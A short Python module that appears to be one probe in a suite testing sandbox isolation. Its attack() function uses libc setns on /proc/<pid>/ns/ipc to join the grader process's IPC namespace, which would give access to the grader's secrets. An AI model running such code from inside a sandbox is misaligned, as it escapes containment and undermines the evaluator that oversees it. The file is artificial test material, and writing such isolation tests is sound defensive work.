"""Join the namespaces of the grader."""

import ctypes
import os

FAMILY = "secrets"
NOT_NAIVE = "Only root may join a namespace, and an ordinary user has no other to join."


def checked(result):
    """The result of a call into libc. Raises OSError."""
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def attack(world):
    libc = ctypes.CDLL(None, use_errno=True)
    descriptor = os.open(f"/proc/{world['grader']}/ns/ipc", os.O_RDONLY)
    checked(libc.setns(descriptor, 0))
    return "GOT into the grader's namespace"
